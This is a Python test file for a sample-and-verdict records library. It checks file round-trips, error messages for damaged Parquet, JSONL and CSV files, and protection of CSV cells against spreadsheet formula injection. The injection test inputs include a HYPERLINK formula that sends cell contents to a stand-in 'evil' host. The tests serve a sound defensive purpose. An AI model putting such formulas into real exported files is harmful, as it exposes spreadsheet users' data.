"""Samples and judgements on disk: what was written is read back, and what is broken is named."""

import csv
import errno
import json
import random
import resource
import sys
import tempfile
from contextlib import contextmanager
from pathlib import Path
from unittest.mock import patch

import campaigns
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from one_line_errors import line_of

from excam.core import row_files, tables
from excam.core.exceptions import ArtifactBroken, InputInvalid, SourceInvalid
from excam.core.source_tables import read_table
from excam.core.spreadsheets import guard_cell, remove_guard
from excam.error_reports import record_files
from excam.error_reports.records import BaseSample, CulturalError, Report, Sample, Verdict

ERROR = CulturalError("output", "Sushi", "major", "incorrect answer", 0, 5)
LOST = CulturalError("output", "sashimi", "minor", "t")
TEXT = 'Şiş "kebap"\n\t{Instruction} 寿司 \u2028 \x00 </s> | ,'


def sample(number: int = 0, wrong: bool = False, **changes) -> Sample:
    fields = {
        **{"id": f"blend/{number}/hard/{'wrong' if wrong else 'right'}", "pair": f"blend/{number}/hard"},
        **{"base": f"blend/{number}", "dataset": "blend", "task": "qa", "instruction": TEXT, "output": "Sushi."},
        **{"report": Report((ERROR, ERROR), "Because: " + TEXT) if wrong else Report(), "language": "Turkish"},
        **{"origin": "hard" if wrong else "source", "culture": "Türkiye", "stratum": "s", "licence": "MIT"},
        **{"answer": "Kebap", "templates": ("qa/instruction/07", "qa/output/12"), "group": "g"},
    }
    return Sample(**{**fields, **changes})


def broken(call, *args) -> str:
    line = line_of(ArtifactBroken, call, *args)
    assert "delete" in line
    assert "run again" in line
    return line


def test_samples_come_back_as_they_were(tmp_path):
    rows = [sample(2, wrong=True), sample(1), sample(3, templates=(), group="")]
    record_files.write_samples(tmp_path / "a.parquet", rows)
    assert record_files.read_samples(tmp_path / "a.parquet") == rows
    frame = tables.read_frame(tmp_path / "a.parquet")
    assert dict(frame.schema) == record_files.SAMPLE_SCHEMA
    assert frame["score"].to_list() == [-10, 0, 0]


def test_no_samples_keep_their_columns(tmp_path):
    """Two datasets are put together by column."""
    record_files.write_samples(tmp_path / "a.parquet", [])
    assert record_files.read_samples(tmp_path / "a.parquet") == []
    assert dict(tables.read_frame(tmp_path / "a.parquet").schema) == record_files.SAMPLE_SCHEMA


def test_base_samples_come_back_as_they_were(tmp_path):
    bases = [
        BaseSample("blend/1", "blend", "qa", TEXT, "tea", "Turkish", "Türkiye", "s", ("tea", "cola"), ("cola",)),
        BaseSample("epic/2", "epic", "freeform", "q", "a", "English", "India", "s", role="r", context=TEXT, group="g"),
    ]
    record_files.write_bases(tmp_path / "a.jsonl", bases)
    assert record_files.read_bases(tmp_path / "a.jsonl") == bases
    written = (tmp_path / "a.jsonl").read_bytes()
    assert (written.count(b"\n"), written.count("寿司".encode())) == (2, 2), "a row is a line, whatever it says"


def test_judgements_hold_every_row(tmp_path):
    """Also the failures: nothing is left out."""
    slip = sample(2, group="", report=Report((CulturalError("output", "Sushi", "minor", "t", 0, 5),), "x"))
    samples = [sample(1), sample(1, wrong=True), slip]
    verdicts = [
        Verdict(0, 0.0, 0.9, Report(), certainty_without_end=0.8),
        Verdict(1, -5.0, 0.5, Report((ERROR, LOST, LOST), "why"), recovered=("fence", "case"), thinking="Hm \ud800"),
        Verdict(None, None, None, failure="no-json", thinking=TEXT),
    ]
    record_files.write_judgements(tmp_path / "a.parquet", samples, verdicts)
    frame = tables.read_frame(tmp_path / "a.parquet")
    assert dict(frame.schema) == record_files.JUDGEMENT_SCHEMA
    expected = {
        **{"id": [item.id for item in samples], "group": ["g", "g", "blend/2"]},  # without one, its base sample's
        **{"gold_score": [0, -10, -1], "gold_error": [False, True, True], "score": [0.0, -5.0, None]},
        **{"errors_found": [0, 1, None], "failure": [None, None, "no-json"], "certainty": [0.9, 0.5, None]},
        **{"certainty_without_end": [0.8, None, None], "recovered": ["", "fence,case", ""]},
        **{"spans_not_found": [0, 2, None], "thinking": ["", "Hm ?", TEXT]},
    }
    assert frame.select(list(expected)).to_dict(as_series=False) == expected
    assert record_files.report_from_json(frame["report"][1]) == Report((ERROR, LOST, LOST), "why")
    assert record_files.report_from_json(frame["report"][0]) == Report(), "an empty report is a report"
    assert frame["report"][2] is None


def test_a_verdict_for_each_sample(tmp_path):
    with pytest.raises(ValueError, match="zip"):
        record_files.write_judgements(tmp_path / "a.parquet", [sample(1), sample(2)], [Verdict(0, 0.0)])
    assert not list(tmp_path.iterdir())


def test_a_broken_parquet_file(tmp_path):
    path = tmp_path / "a.parquet"
    record_files.write_samples(path, [sample(number) for number in range(30)])
    whole = path.read_bytes()
    for damaged in (b"", b"PAR1", whole[:100], whole[: len(whole) // 2], whole[:-1], whole[1:], b"id,pair\n1,2\n"):
        path.write_bytes(damaged)
        assert broken(record_files.read_samples, path).startswith(f"{path}: not a readable Parquet file (")
    assert "not a readable Parquet file" in broken(tables.read_frame, tmp_path / "absent.parquet")


def test_a_panic_of_the_reader_is_a_broken_file(tmp_path, monkeypatch):
    def panic(_: object) -> None:
        raise pl.exceptions.PanicException("assertion failed\nstack backtrace:")

    monkeypatch.setattr(tables, "scan_parquet", panic)
    assert "(assertion failed stack backtrace:)" in broken(tables.read_frame, tmp_path / "a.parquet")


def test_another_table_is_no_samples(tmp_path):
    tables.write_frame(tmp_path / "a.parquet", pl.DataFrame({"id": [1]}))
    line = broken(record_files.read_samples, tmp_path / "a.parquet")
    assert line.startswith(f"{tmp_path}/a.parquet: no samples: lacks")


GOOD = b'{"a": "\xc5\x9f"}\n'


def test_lines_are_read_as_they_stand(tmp_path):
    path = tmp_path / "a.jsonl"
    rows = [{"text": TEXT}, {"text": "\x85 \u2029"}, {}]
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    assert list(tables.read_jsonl(path)) == rows
    path.write_bytes(GOOD.replace(b"\n", b"\r\n"))
    assert list(tables.read_jsonl(path)) == [{"a": "ş"}]
    path.write_bytes(b"")
    assert list(tables.read_jsonl(path)) == []


@pytest.mark.parametrize(
    "line", [b'{"a": ', b'{"a": "\xc5', b"[]", b"null", b"", b"{}{}", b"[" * 100_000, b'{"a": ' + b"1" * 5000 + b"}"]
)
def test_a_torn_line_is_named(tmp_path, line):
    path = tmp_path / "a.jsonl"
    path.write_bytes(GOOD + line + b"\n" + GOOD)
    assert broken(list, tables.read_jsonl(path)).startswith(f"{path}:2: not a JSON object")
    path.write_bytes(line + b"\n")
    assert broken(record_files.read_bases, path).startswith(f"{path}:1: not a JSON object")


@pytest.mark.parametrize("content", [b"", b"a,b\n1,2\n3", b"a,b\n1,2,3\n", b'a,b\n1,"2\n', b"a,b\n\xff,2\n"], ids=str)
def test_a_torn_table_is_one_line(tmp_path, content):
    path = tmp_path / "figure.csv"
    path.write_bytes(content)
    assert broken(tables.read_lines, path).startswith(f"{path}: not a complete CSV table (line ")


def test_a_table_as_it_was_written(tmp_path):
    tables.write_lines(tmp_path / "figure.csv", ("a", "b"), [{"a": "x, y", "b": 1}, {"a": "two\nlines"}])
    assert tables.read_lines(tmp_path / "figure.csv") == [{"a": "x, y", "b": "1"}, {"a": "two\nlines", "b": ""}]


FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-1+cmd", "@SUM(1)", "\t=1", "'=1", "a;=1", "x\n-1+1", "--", "+")
INTERVAL = "-0.300 [-1.000, 6.8e-1], n=20: at chance"
NUMBERS = ("+0.12", "-5.0", "−.10", "-1e-5", "-", "-.5", "+3", "-2.", "0", "1e10", "−5", "–", "-0.25E+3")
EITHER = st.one_of(
    st.text(),
    st.text("=+-@;\t\r\n'\"\uff1d1.e"),
    st.sampled_from((*FORMULAS, *NUMBERS, *campaigns.FORMULAS, INTERVAL, f"{INTERVAL};=1")),
)


@pytest.mark.parametrize("text", [*FORMULAS, *campaigns.FORMULAS])
def test_no_spreadsheet_runs_a_cell_of_a_table(tmp_path, text):
    tables.write_lines(tmp_path / "a.csv", ("why",), [{"why": text}])
    tables.write_csv(tmp_path / "b.csv", pl.DataFrame({"why": [text, None]}))
    for name in ("a.csv", "b.csv"):
        with (tmp_path / name).open(newline="", encoding="utf-8") as stream:
            (cell,) = list(csv.reader(stream))[1]
        assert cell[:1] not in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
        assert cell == guard_cell(text)


def test_a_number_with_a_sign_stays_a_number(tmp_path):
    assert guard_cell(INTERVAL) == INTERVAL
    assert guard_cell(f"{INTERVAL};=1") == f"{INTERVAL};'=1"
    assert guard_cell("-0.3 [=1, 2]")[0] == guard_cell("-0.3 +1")[0] == "'"
    lines = ["a,b", *(f"{number},-1.5" for number in NUMBERS), ""]
    tables.write_lines(tmp_path / "a.csv", ("a", "b"), [{"a": number, "b": -1.5} for number in NUMBERS])
    assert (tmp_path / "a.csv").read_bytes().decode().split("\r\n") == lines
    tables.write_csv(tmp_path / "b.csv", pl.DataFrame({"a": NUMBERS, "b": [-1.5] * len(NUMBERS)}))
    assert (tmp_path / "b.csv").read_text(encoding="utf-8").split("\n") == lines


@given(st.lists(EITHER))
def test_texts_of_tables_come_back_to_the_letter(texts):
    assert [remove_guard(guard_cell(text)) for text in texts] == texts
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "a.csv")
        tables.write_lines(path, ("a", "b"), [{"a": text, "b": 1} for text in texts])
        assert [line["a"] for line in tables.read_lines(path)] == texts
        frame = pl.DataFrame({"a": texts, "b": [1] * len(texts)}, schema={"a": pl.String, "b": pl.Int64})
        tables.write_csv(path, frame)
        assert tables.read_csv(path, frame.schema).equals(frame)


def test_a_cell_that_no_file_can_hold_is_one_line(tmp_path):
    line = line_of(InputInvalid, tables.write_lines, tmp_path / "a.csv", ("a",), [{"a": "\ud83d"}])
    assert "a.csv: a cell holds U+D83D, a lone surrogate; expected Unicode text" in line
    assert list(tmp_path.iterdir()) == []


@contextmanager
def files_of_at_most(size):
    """No file grows beyond so many bytes, as on a disk that is full; a module's bytecode would be cut off unseen."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        with patch.object(sys, "dont_write_bytecode", True):
            yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


@pytest.mark.parametrize("write", [tables.write_frame, tables.write_csv])
def test_no_room_for_a_table_names_the_file(tmp_path, write):
    """Polars writes itself, and tells of the system's refusal in other words and as another exception."""
    numbers = random.Random(0)
    frame = pl.DataFrame({"number": [numbers.random() for _ in range(5000)]})
    path = tmp_path / "rows"
    with files_of_at_most(10_000), pytest.raises(OSError, match="File too large") as caught:
        write(path, frame)
    assert (caught.value.errno, caught.value.filename) == (errno.EFBIG, str(path))
    assert list(tmp_path.iterdir()) == []
    write(path, frame)


def _in_frames(path, frame):
    tables.write_frames(path, iter([frame]), frame.schema, len(frame))


@pytest.mark.parametrize("write", [tables.write_frame, _in_frames], ids=["frame", "frames"])
def test_no_room_for_what_describes_a_column_names_the_file_too(tmp_path, write):
    """Polars writes these parts through another library, which tells of a refusal without its number."""
    frame = pl.DataFrame({f"column {at}": [at * 1.1] for at in range(200)})
    path = tmp_path / "rows"
    write(path, frame)
    size = path.stat().st_size
    path.unlink()
    for limit in range(0, size, size // 40):
        with files_of_at_most(limit), pytest.raises(OSError, match="File too large") as caught:
            write(path, frame)
        assert (caught.value.errno, caught.value.filename) == (errno.EFBIG, str(path))
        assert list(tmp_path.iterdir()) == []


NEIGHBOURS = {
    "texts [v1]": "texts v", "d[1]/x": "d1/x", "texts?": "textsX", "texts*": "texts1", "a=1/x": "a=2/x", "~": "a",
}  # fmt: skip


@pytest.mark.parametrize("name", NEIGHBOURS)
def test_a_path_is_the_name_of_one_file(tmp_path, monkeypatch, name):
    """polars takes a path for a pattern where it is not told otherwise: the neighbour's rows would be read."""
    monkeypatch.chdir(tmp_path)
    for text, path in (("right", Path(name)), ("wrong", Path(NEIGHBOURS[name]))):
        path.parent.mkdir(exist_ok=True)
        frame = pl.DataFrame({"text": [text]})
        frame.write_parquet(f"{path}.parquet")
        frame.write_csv(f"{path}.csv")
    right = pl.DataFrame({"text": ["right"]})
    assert tables.read_frame(Path(f"{name}.parquet")).equals(right)
    assert tables.read_csv(Path(f"{name}.csv"), right.schema).equals(right)
    for kind in (".parquet", ".csv"):
        assert read_table(Path(f"{name}{kind}"), "set", ["text"]).equals(right)
        assert [row["text"] for _, row in row_files.rows(Path(f"{name}{kind}"))] == ["right"]
        with pytest.raises((ArtifactBroken, InputInvalid, SourceInvalid)):
            read_table(Path(f"{name}{name}{kind}"), "set", ["text"])
